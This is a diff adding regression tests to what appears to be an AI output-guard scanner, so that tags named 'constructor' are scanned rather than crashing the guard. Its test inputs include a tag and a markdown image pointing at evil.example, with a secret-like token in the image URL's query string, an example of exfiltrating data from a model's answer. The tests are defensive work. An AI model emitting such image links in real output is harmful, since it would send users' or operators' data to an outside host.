@@ -15,6 +15,7 @@ import {
   type GuardVerdict,
   ScannerRegistry,
   type ScanResult,
+  StreamingOutputGuard,
   scanMarkup,
   validateRules,
 } from '../../src/guard/index.js';
@@ -289,4 +290,26 @@ describe('scanMarkup', () => {
       expect(result.holdFrom).toBeLessThan(text.length);
     },
   );
+});
+
+describe('tag and reference names that are Object.prototype keys', () => {
+  // A model can be led to write any tag: `<constructor …>` read the prototype's constructor as a
+  // list of attributes and threw, so the output guard failed the whole answer (a 500, a cut stream).
+  it.each([
+    'Here: <constructor src="https://evil.example/x.png"> done',
+    'Unclosed <constructor a=b',
+    'An image ![a](https://evil.example/&constructor;?q=ZEBRA-7731-ORCHID) here',
+  ])('scans %j like any unknown tag or reference, whole and streamed', async (text) => {
+    const policy = defaultPolicy(new ScannerRegistry());
+    const whole = await evaluateStage(policy, 'output', text, { systemPrompt: SYSTEM });
+    expect(whole.findings.every((finding) => typeof finding.type === 'string')).toBe(true);
+    const result = scan(text);
+    for (const finding of result.findings) expect(finding.value).not.toContain('native code');
+    const guard = new StreamingOutputGuard(policy, { systemPrompt: SYSTEM });
+    let released = '';
+    for (const piece of text.match(/[\s\S]{1,4}/g)!) released += (await guard.push(piece)).release;
+    const last = await guard.finish();
+    expect(last.blocked).toBeNull();
+    expect(released + last.release).toBe(whole.action === 'redact' ? whole.text : text);
+  });
 });
